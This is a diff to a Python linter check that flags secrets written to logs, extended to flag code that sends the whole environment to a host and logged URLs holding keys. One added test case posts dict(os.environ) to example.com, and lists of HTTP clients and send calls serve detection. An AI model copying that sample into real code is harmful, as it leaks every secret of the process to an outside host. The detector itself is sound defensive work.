@@ -3,13 +3,16 @@
 from __future__ import annotations
 
 import ast
-from collections.abc import Iterator
+from collections.abc import Iterator, Sequence
 
 from wardround.checks.cases import code
 from wardround.checks.lazy import LazyPattern
 from wardround.checks.source import SourceFile
 from wardround.findings import Plane
+from wardround.languages.python.module import last_name
 from wardround.languages.python.tree import unparse, walk
+from wardround_python.analysis.url_secrets import holds_secret
+from wardround_python.analysis.whole_environment import contains_environment
 from wardround_python.check import PythonCheck
 
 _LEVELS = frozenset({"debug", "info", "warning", "warn", "error", "critical", "exception"})
@@ -20,23 +23,30 @@ _SECRET = LazyPattern(
     r"^(secret|private|api|signing|encryption|access)_?key$|^(access|refresh|bearer|auth|reset|session|id)_?token$|"
     r"^(authorization|card_?number|cvv|cvc|ssn)$"
 )
-
-
+_SENDS = frozenset(
+    {"post", "put", "patch", "request", "urlopen", "Request", "send", "sendall", "sendto", "stream"}
+)
+_CLIENTS = (
+    "requests", "httpx", "aiohttp", "urllib", "urllib3", "http.client", "socket", "websocket", "websockets",
+    "niquests",
+)  # fmt: skip
 _LETS_IN = LazyPattern(r"(?i)bearer|authorization|reset|invit|session")
 
 
 class SecretInLog(PythonCheck):
-    """A password or a key is written to the log.
+    """A password, a key or the complete environment is written to the log or sent to a host.
 
     Logs are stored for long, copied to other systems and read by people who may not know the secret. Log the
-    subject, or that the secret was wrong, and never the secret itself.
+    subject, or that the secret was wrong, and never the secret itself; of a URL, log the path without the
+    query that contains the key. The environment contains every secret of the process: pass on only the
+    variables that are needed, by name.
     """
 
     ID = "PY332"
     NAME = "secret-in-log"
     PLANE = Plane.SECURITY
     DEFECT_CLASS = "secret-in-log"
-    WORDS = (".debug(", ".info(", ".warning(", ".warn(", ".error(", ".critical(", ".exception(")
+    WORDS = (".debug(", ".info(", ".warning(", ".warn(", ".error(", ".critical(", ".exception(", "environ")
     VALID = [
         code("""
             def login(log, name, password):
@@ -53,8 +63,9 @@ class SecretInLog(PythonCheck):
                 log.info('%s with %s', name, «password»)
         """),
         code("""
-            def login(logger, form):
-                logger.debug(f'login with {«form.password»}')
+            import os
+            import requests
+            requests.post('https://example.com/hello', json=«dict(os.environ)», timeout=5)
         """),
     ]
 
@@ -72,25 +83,54 @@ class SecretInLog(PythonCheck):
             "authorization",
             "cvv",
             "card",
+            "environ",
+            "key=",
+            "api-key",
         )
         return super().wants(source) and any(word in lowered for word in words)
 
     def visit_Call(self, node: ast.Call) -> None:
-        if not isinstance(node.func, ast.Attribute) or node.func.attr not in _LEVELS:
-            return
-        if not _LOG.search(unparse(node.func.value)):
-            return
+        if _is_log(node):
+            self._check_logged(node)
+        elif last_name(node.func) in _SENDS and self._has_client():
+            self._check_sent(node)
+
+    def _check_logged(self, node: ast.Call) -> None:
         for argument in (*node.args, *(k.value for k in node.keywords if k.arg == "extra")):
             for value in _logged_values(argument):
-                if (
-                    _SECRET.search(_called(value))
-                    or self._is_bearer(value)
-                    or self._contains_secret(value, node)
-                ):
-                    self.report(
-                        self.module.span(value), f"{_called(value)} is written to the log; leave it out"
-                    )
+                if self._is_secret(value, node):
+                    self._report_logged(value, _called(value))
                     return
+            if contains_environment(self.module, argument):
+                self._report_logged(argument, "the complete environment")
+                return
+        for argument, filling in _logged_texts(node):
+            if holds_secret(self.module, argument, filling):
+                self._report_logged(argument, "a URL with a key")
+                return
+
+    def _report_logged(self, value: ast.expr, what: str) -> None:
+        self.report(self.module.span(value), f"{what} is written to the log; leave it out")
+
+    def _check_sent(self, node: ast.Call) -> None:
+        for argument in (*node.args, *(keyword.value for keyword in node.keywords)):
+            if contains_environment(self.module, argument):
+                self.report(
+                    self.module.span(argument),
+                    "the complete environment, with its secrets, is sent to a host; send chosen variables",
+                )
+                return
+
+    def _has_client(self) -> bool:
+        """Return True if the module imports a library that sends data to hosts."""
+        return any(name.startswith(_CLIENTS) for name in self.module.imported.values())
+
+    def _is_secret(self, value: ast.expr, node: ast.Call) -> bool:
+        return (
+            _SECRET.search(_called(value)) is not None
+            or self._is_bearer(value)
+            or self._contains_secret(value, node)
+        )
 
     def _is_bearer(self, node: ast.expr) -> bool:
         """Return True for an attribute ``token`` where tokens authenticate requests."""
@@ -116,6 +156,20 @@ class SecretInLog(PythonCheck):
             and not isinstance(value, ast.Constant)
             for key, value in pairs
         )
+
+
+def _is_log(node: ast.Call) -> bool:
+    if not isinstance(node.func, ast.Attribute) or node.func.attr not in _LEVELS:
+        return False
+    return _LOG.search(unparse(node.func.value)) is not None
+
+
+def _logged_texts(node: ast.Call) -> Iterator[tuple[ast.expr, Sequence[ast.expr]]]:
+    """Return each value, then the message with the values that fill its places."""
+    for value in node.args[1:]:
+        yield value, ()
+    if node.args:
+        yield node.args[0], node.args[1:]
 
 
 def _logged_values(node: ast.expr) -> Iterator[ast.expr]:
